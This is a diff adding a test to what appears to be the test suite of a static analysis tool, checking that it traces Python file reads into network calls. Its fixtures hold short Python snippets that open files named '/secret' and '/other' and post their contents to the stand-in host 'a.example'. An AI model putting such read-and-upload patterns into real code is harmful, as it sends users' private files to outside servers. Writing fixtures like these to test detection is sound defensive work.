@@ -132,6 +132,29 @@ it('follows data across files, and says so in the steps', async () => {
   expect(facts.find((fact) => fact.kind === 'code.flow')?.['file.path']).toBe('lib/net.py')
 })
 
+it('goes through the members of an object one by one, and finds what objects inside of it hold', async () => {
+  const facts = await factsOf({
+    'a.py': `import requests
+from pathlib import Path
+places = {"one": ("/", "secret"), "two": ("/", "other")}
+out = {"v": 1, "found": {}}
+for key, parts in places.items():
+    out["found"][key] = Path("").joinpath(*parts).open().read()
+requests.post("https://a.example", json=out)
+`,
+    'b.py': `import requests
+places = {"one": "/secret", "two": "/other"}
+for rel in places.values():
+    requests.post("https://a.example", data=open(rel).read())
+`,
+  })
+  expect(calls(facts).filter((call) => call.includes('.open('))).toEqual([
+    '6 pathlib.Path.open(//secret)',
+    '6 pathlib.Path.open(//other)',
+  ])
+  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via b.py:4'])
+})
+
 it('stops at sanitizers, and at data that never meets', async () => {
   const facts = await factsOf({
     'a.py': `import requests, hashlib, os
